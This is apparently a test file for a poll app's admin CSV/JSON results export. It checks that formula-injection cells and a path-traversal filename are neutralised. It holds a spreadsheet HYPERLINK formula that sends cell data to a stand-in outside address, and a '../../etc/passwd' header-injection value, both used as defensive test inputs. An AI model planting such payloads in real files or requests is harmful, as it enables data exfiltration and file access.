import assert from 'node:assert/strict';
import type supertest from 'supertest';
import { appOnDatabase, browser } from '../support/app.js';
import { createAdmin, signedIn } from '../support/admin.js';
import { databaseTargets } from '../support/databases.js';
import { createQuestion } from '../support/fixtures.js';

/** supertest's parser for a body to keep as bytes. */
const asBytes = (response: supertest.Response, done: (error: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  response.on('data', (chunk: Buffer) => chunks.push(chunk));
  response.on('end', () => done(null, Buffer.concat(chunks)));
};

const exportPaths = (id: number | string) => [
  `/admin/questions/${id}/results.csv`,
  `/admin/questions/${id}/results.json`,
  `/admin/questions/${id}/share-qr.svg`,
];

for (const target of databaseTargets) {
  describe(`admin results export on ${target.name}`, () => {
    const suite = appOnDatabase(target);
    let agent: supertest.Agent;
    beforeEach(async () => {
      await createAdmin(suite.db.knex);
      agent = await signedIn(suite.app);
    });

    const setVotes = async (choiceIds: readonly number[], votes: readonly number[]) => {
      for (const [index, id] of choiceIds.entries())
        await suite.db.knex('choices').where({ id }).update({ votes: votes[index] });
    };

    it('sends the CSV as UTF-8 with a byte order mark, CRLF records, quoted text and formulas neutralised', async () => {
      const question = await createQuestion(suite.db.knex, 'Tea, "or" coffee?', -1, [
        'Tea, with milk',
        'Say "cheese"',
        'Two\nlines',
        '=HYPERLINK("http://203.0.113.1/?"&A1)',
        '+1',
        '-1',
        '@SUM(A1)',
        '\tTabbed',
        'Café ☕',
      ]);
      await setVotes(question.choiceIds, [3, 0, 0, 1, 1, 1, 1, 1, 2]);
      const response = await agent
        .get(`/admin/questions/${question.id}/results.csv`)
        .buffer(true)
        .parse(asBytes)
        .expect(200);
      const bytes = response.body as Buffer;
      assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
      assert.equal(
        bytes.subarray(3).toString('utf8'),
        [
          '"Choice","Votes","Share (%)"',
          '"Tea, with milk",3,30.0',
          '"Say ""cheese""",0,0.0',
          '"Two\nlines",0,0.0',
          `"'=HYPERLINK(""http://203.0.113.1/?""&A1)",1,10.0`,
          `"'+1",1,10.0`,
          `"'-1",1,10.0`,
          `"'@SUM(A1)",1,10.0`,
          `"'\tTabbed",1,10.0`,
          '"Café ☕",2,20.0',
          '',
        ].join('\r\n'),
      );
      assert.equal(response.headers['content-type'], 'text/csv; charset=utf-8');
      assert.equal(
        response.headers['content-disposition'],
        `attachment; filename="poll-${question.id}-results.csv"; ` +
          `filename*=UTF-8''poll-${question.id}-Tea-or-coffee-results.csv`,
      );
      assert.equal(response.headers['cache-control'], 'no-store');
    });

    it('sends the JSON with the question, when the counts were read, and shares that add up to 100', async () => {
      const question = await createQuestion(suite.db.knex, 'Which one?', -1, ['A', 'B', 'C']);
      await setVotes(question.choiceIds, [1, 1, 1]);
      const { pub_date: pubDate } = await suite.db
        .knex('questions')
        .where({ id: question.id })
        .first<{ pub_date: Date }>('pub_date');
      const response = await agent.get(`/admin/questions/${question.id}/results.json`).expect(200);
      assert.equal(response.headers['content-type'], 'application/json; charset=utf-8');
      assert.equal(
        response.headers['content-disposition'],
        `attachment; filename="poll-${question.id}-results.json"; ` +
          `filename*=UTF-8''poll-${question.id}-Which-one-results.json`,
      );
      assert.equal(response.headers['cache-control'], 'no-store');
      const { readAt, ...rest } = response.body as { readAt: string };
      assert.equal(new Date(readAt).toISOString(), readAt);
      assert.deepEqual(rest, {
        id: question.id,
        questionText: 'Which one?',
        pubDate: new Date(pubDate).toISOString(),
        // A question inserted with only its text and publication date: one vote per browser, never closes.
        votingRule: 'one-per-browser',
        closesAt: null,
        closed: false,
        totalVotes: 3,
        choices: [
          { id: question.choiceIds[0], choiceText: 'A', votes: 1, share: 33.4 },
          { id: question.choiceIds[1], choiceText: 'B', votes: 1, share: 33.3 },
          { id: question.choiceIds[2], choiceText: 'C', votes: 1, share: 33.3 },
        ],
      });
    });

    it("includes the question's voting rule and closing time, and whether it had closed when read", async () => {
      const question = await createQuestion(suite.db.knex, 'Over?', -2);
      const closesAt = new Date(Date.now() - 24 * 60 * 60 * 1000);
      await suite.db
        .knex('questions')
        .where({ id: question.id })
        .update({ voting_rule: 'one-per-browser-and-address', closes_at: closesAt });
      const response = await agent.get(`/admin/questions/${question.id}/results.json`).expect(200);
      const body = response.body as Record<string, unknown>;
      assert.deepEqual(
        [body.votingRule, body.closesAt, body.closed],
        ['one-per-browser-and-address', closesAt.toISOString(), true],
      );
    });

    it('exports a question that is not published yet, or has no choices, with what it has', async () => {
      const question = await createQuestion(suite.db.knex, 'Later?', 30, []);
      const csv = await agent.get(`/admin/questions/${question.id}/results.csv`).expect(200);
      assert.equal(csv.text, '\uFEFF"Choice","Votes","Share (%)"\r\n');
      const json = await agent.get(`/admin/questions/${question.id}/results.json`).expect(200);
      assert.deepEqual((json.body as { choices: unknown[] }).choices, []);
      assert.equal((json.body as { totalVotes: number }).totalVotes, 0);
    });

    it('names the file safely whatever the question says', async () => {
      const question = await createQuestion(suite.db.knex, '../../etc/passwd"; x=\\ ?', -1);
      const response = await agent.get(`/admin/questions/${question.id}/results.csv`).expect(200);
      assert.equal(
        response.headers['content-disposition'],
        `attachment; filename="poll-${question.id}-results.csv"; ` +
          `filename*=UTF-8''poll-${question.id}-etc-passwd-x-results.csv`,
      );
      const accented = await createQuestion(suite.db.knex, 'Thé ou café ? ☕', -1);
      const unicode = await agent.get(`/admin/questions/${accented.id}/results.csv`).expect(200);
      assert.equal(
        unicode.headers['content-disposition'],
        `attachment; filename="poll-${accented.id}-results.csv"; ` +
          `filename*=UTF-8''poll-${accented.id}-Th%C3%A9-ou-caf%C3%A9-results.csv`,
      );
      const symbols = await createQuestion(suite.db.knex, '?!', -1);
      const plain = await agent.get(`/admin/questions/${symbols.id}/results.csv`).expect(200);
      assert.equal(
        plain.headers['content-disposition'],
        `attachment; filename="poll-${symbols.id}-results.csv"`,
      );
    });

    it('sends a visitor without a session to the login page, and exports nothing', async () => {
      const question = await createQuestion(suite.db.knex, 'Secret?', -1);
      for (const path of exportPaths(question.id)) {
        const response = await browser(suite.app).get(path).expect(303);
        assert.equal(response.headers.location, `/admin/login?next=${encodeURIComponent(path)}`);
        assert.equal(response.headers['content-disposition'], undefined);
      }
    });

    it('answers 404 for an unknown or malformed question id', async () => {
      const { id } = await createQuestion(suite.db.knex, 'Here?', -1);
      for (const badId of [id + 1, 0, -1, 'abc', '1e3', '2147483648', '99999999999999999999', '%00'])
        for (const path of exportPaths(badId)) {
          const response = await agent.get(path);
          assert.equal(response.status, 404, path);
          assert.match(response.text, /Question not found\.|Page not found\./, path);
        }
    });
  });
}
